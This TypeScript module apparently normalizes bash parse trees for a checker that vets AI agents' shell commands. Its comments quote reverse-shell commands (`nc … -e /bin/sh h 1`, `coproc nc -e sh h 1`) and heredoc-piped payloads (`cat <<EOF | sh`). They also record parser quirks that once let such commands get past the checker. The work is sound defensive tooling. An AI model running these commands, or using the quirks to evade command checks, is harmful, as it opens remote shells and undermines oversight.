// Why: tree-sitter-bash mis-shapes a few very common agent idioms around heredocs, and an
// analyzer that trusted those shapes would miss commands: `cat <<EOF | sh` puts the pipeline
// *inside* the heredoc redirect, `cat <<EOF > f && sh f` hides the `&& sh f` there too, and
// `python3 - <<EOF` drops the `-`. This pass rewrites those shapes into the ones bash means
// (pipeline, list, argument) before analysis, and gives words after a redirect's target back to
// the command. Threat it stops: `cat <<EOF | bash` style payloads, heredoc-fed interpreters and
// arguments written after a redirect (`nc 2>/dev/null -e /bin/sh h 1`) slipping through parser quirks.
import type { SNode } from './parser.js';

const SEPARATORS = new Set([';', '&', '|', '&&', '||', '|&', ';;']);

function mk(type: string, children: SNode[], field: string | null = null): SNode {
  const start = children.length ? children[0]!.start : 0;
  const end = children.length ? children[children.length - 1]!.end : 0;
  return { type, start, end, field, named: true, missing: false, children };
}

/** Word nodes for non-blank text the parser skipped (e.g. the `-` in `python3 - <<EOF`). */
function gapWords(text: string, from: number, to: number): SNode[] {
  const out: SNode[] = [];
  let i = from;
  while (i < to) {
    while (i < to && /\s/.test(text[i]!)) i++;
    const s = i;
    while (i < to && !/\s/.test(text[i]!)) i++;
    if (i > s && !/[<>|&;()]/.test(text.slice(s, i))) out.push({ type: 'word', start: s, end: i, field: 'argument', named: true, missing: false, children: [] });
  }
  return out;
}

/**
 * `nc 2>/dev/null -e /bin/sh h 1`: the grammar gives every word after a redirect's target to the redirect as more
 * destinations, but bash runs them as the command's arguments (`nc -e /bin/sh h 1`). Moves them back, in order, so
 * a redirect put before the arguments no longer hid them from every rule (session 45: `nc 2>/dev/null -e /bin/sh
 * h 1` and `python3 </dev/null -c '…'` were allowed).
 */
function spillDestinations(cmd: SNode, redirects: SNode[]): void {
  for (const r of redirects) {
    if (r.type !== 'file_redirect') continue;
    const dests = r.children.filter((c) => c.field === 'destination');
    if (dests.length < 2) continue;
    const extra = new Set(dests.slice(1));
    r.children = r.children.filter((c) => !extra.has(c));
    r.end = dests[0]!.end;
    for (const w of extra) cmd.children.push({ ...w, field: 'argument' });
    cmd.end = Math.max(cmd.end, dests.at(-1)!.end);
  }
}

/** Rewrites one redirected_statement whose heredoc redirect swallowed the rest of the line. */
function fixRedirected(n: SNode, text: string): SNode {
  const body = n.children.find((c) => c.field === 'body');
  const hd = n.children.find((c) => c.type === 'heredoc_redirect');
  if (body?.type === 'command' && body.children.some((c) => c.field === 'name')) spillDestinations(body, n.children.filter((c) => c.field === 'redirect'));
  if (body?.type === 'command') {
    const firstRedir = n.children.find((c) => c.field === 'redirect');
    if (firstRedir && firstRedir.start > body.end) {
      const lost = gapWords(text, body.end, firstRedir.start);
      if (lost.length) { body.children.push(...lost); body.end = lost[lost.length - 1]!.end; }
    }
  }
  if (!hd) return n;
  const tailStart = hd.children.findIndex((c) => c.type === 'pipeline' || c.field === 'operator' || c.field === 'argument' || (c.field === 'redirect'));
  if (tailStart < 0) return n;
  const keep: SNode[] = [];
  const moved: SNode[] = [];
  let pipe: SNode | null = null;
  let op: SNode | null = null;
  let right: SNode | null = null;
  for (const c of hd.children) {
    if (c.field === 'argument' && body?.type === 'command') { body.children.push(c); continue; }
    if (c.field === 'redirect') { moved.push({ ...c, field: 'redirect' }); continue; }
    if (c.type === 'pipeline') { pipe = c; continue; }
    if (c.field === 'operator') { op = c; continue; }
    if (c.field === 'right') { right = c; continue; }
    keep.push(c);
  }
  hd.children = keep;
  const stmt: SNode = { ...n, children: [...n.children.filter((c) => c !== hd), hd, ...moved] };
  stmt.children.sort((a, b) => a.start - b.start);
  let out: SNode = stmt;
  if (pipe) out = mk('pipeline', [stmt, ...pipe.children]);
  if (op && right) out = mk('list', [out, op, right]);
  out.field = n.field;
  return out;
}

/**
 * `a && cat > f <<EOF` and `a | cat > f` come back as one redirected_statement whose body is the whole list or
 * pipeline; bash gives the redirects (and the heredoc) to the last command only. They are moved there before
 * the heredoc fixes above, so `cd /tmp && cat <<EOF | sh` is `cd /tmp && (cat <<EOF | sh)`: the payload fed to
 * sh was unseen after any `cd … &&`, and `cd` was taken for a writer of the redirect's file.
 */
function fixStatement(n: SNode, text: string, depth = 0): SNode {
  const body = n.children.find((c) => c.field === 'body');
  const lastIdx = body ? body.children.length - 1 : -1;
  const last = body?.children[lastIdx];
  if (!body || (body.type !== 'list' && body.type !== 'pipeline') || !last?.named || depth > 50) return fixRedirected(n, text);
  const inner: SNode = { ...n, field: last.field, start: last.start, children: [{ ...last, field: 'body' }, ...n.children.filter((c) => c !== body)] };
  const fixed = fixStatement(inner, text, depth + 1);
  fixed.field = last.field;
  body.children[lastIdx] = fixed;
  body.end = Math.max(body.end, fixed.end);
  body.field = n.field;
  return body;
}

/** Splits a command whose argument list contains an ERROR separator (`sh f ; echo` mis-parse). */
function splitCommand(n: SNode): SNode {
  const idx = n.children.findIndex((c) => c.type === 'ERROR' && c.children.length === 1 && SEPARATORS.has(c.children[0]!.type));
  if (idx < 0) return n;
  const head: SNode = { ...n, children: n.children.slice(0, idx) };
  head.end = head.children.length ? head.children[head.children.length - 1]!.end : n.start;
  const rest = n.children.slice(idx + 1);
  if (rest.length === 0) return head;
  const tail: SNode = { ...n, start: rest[0]!.start, children: rest.map((c, k) => (k === 0 ? { ...c, field: 'name' } : c)) };
  return mk('list', [head, n.children[idx]!.children[0]!, splitCommand(tail)]);
}

/**
 * The grammar has no `coproc` keyword: `coproc nc -e sh h 1` came back as a command named coproc, and `coproc X {
 * nc …; }` as nonsense, so the command it runs was never judged (session 45). The text the parser sees has the
 * keyword (and a NAME before a `{` or `(`) blanked at a command's start — same length, so every span still points
 * into the original — and what follows is parsed as the command or compound command bash runs.
 */
export function blankCoproc(text: string): string {
  if (!text.includes('coproc')) return text;
  return text.replace(/(^|[\n;&|(){}]|\b(?:then|do|else|elif|time|!)\s)(\s*)coproc(\s+)(?:([A-Za-z_][A-Za-z0-9_]*)(?=\s*[{(]))?/g,
    (_m, pre: string, sp: string, sp2: string, name: string | undefined) => `${pre}${sp}      ${sp2}${' '.repeat(name?.length ?? 0)}`);
}

/** Applies every fix, bottom-up, in place where possible. Returns the (maybe replaced) node. */
export function normalizeTree(n: SNode, text: string, depth = 0): SNode {
  if (depth > 200) return n;
  for (let i = 0; i < n.children.length; i++) {
    const c = n.children[i]!;
    const r = normalizeTree(c, text, depth + 1);
    if (r !== c) r.field = c.field;
    n.children[i] = r;
  }
  if (n.type === 'redirected_statement') return fixStatement(n, text);
  if (n.type === 'command') {
    if (n.children.some((c) => c.field === 'name')) spillDestinations(n, n.children.filter((c) => c.field === 'redirect'));
    return splitCommand(n);
  }
  return n;
}
